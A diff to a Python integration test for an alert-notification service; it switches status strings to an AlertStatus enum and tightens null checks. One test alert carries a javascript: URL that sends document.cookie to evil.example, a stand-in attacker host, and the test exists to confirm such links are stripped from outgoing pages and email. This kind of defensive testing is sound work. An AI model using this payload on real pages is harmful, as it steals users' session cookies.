@@ -22,7 +22,7 @@ import yaml
 from aiohttp import web
 
 from shared.config import KafkaSettings
-from shared.messages import DeadLetter, IncidentAlert
+from shared.messages import AlertStatus, DeadLetter, IncidentAlert
 from tests.helpers import RecordingServer, read_topic, running
 from tests.integration.notify_fakes import (
     FAST_RETRY,
@@ -171,7 +171,7 @@ async def test_only_http_links_from_alert_content_reach_a_page(
     smtp = SmtpFake(tmp_path).start()
     hostile = IncidentAlert(
         fingerprint="0123456789abcdef",
-        status="firing",
+        status=AlertStatus.FIRING,
         labels={"alertname": "DiskFull", "team": "storage"},
         annotations={"summary": "disk full"},
         generator_url="javascript:fetch('https://evil.example/'+document.cookie)",
@@ -205,18 +205,21 @@ async def test_only_http_links_from_alert_content_reach_a_page(
     assert [b["type"] for b in message["blocks"]] == ["header", "section", "context"]
     assert "javascript" not in json.dumps(event)
     assert "links" not in event and "client_url" not in event
-    html = mail.get_body(("html",)).get_content()
+    body = mail.get_body(("html",))
+    assert body is not None
+    html = body.get_content()
     assert "javascript" not in html and "href" not in html
 
 
 async def test_pagerduty_events_stay_under_512_kb_and_say_what_they_left_out(
     kafka: KafkaSettings,
 ) -> None:
-    pagerduty = await PagerDutyFake().start()
+    pagerduty = PagerDutyFake()
+    await pagerduty.start()
     alerts = [
         IncidentAlert(
             fingerprint=f"{i:016x}",
-            status="firing",
+            status=AlertStatus.FIRING,
             labels={"alertname": "PodCrashLooping", "pod": f"api-{i}"},
             annotations={f"note{n}": "x" * 1000 for n in range(5)},
         )
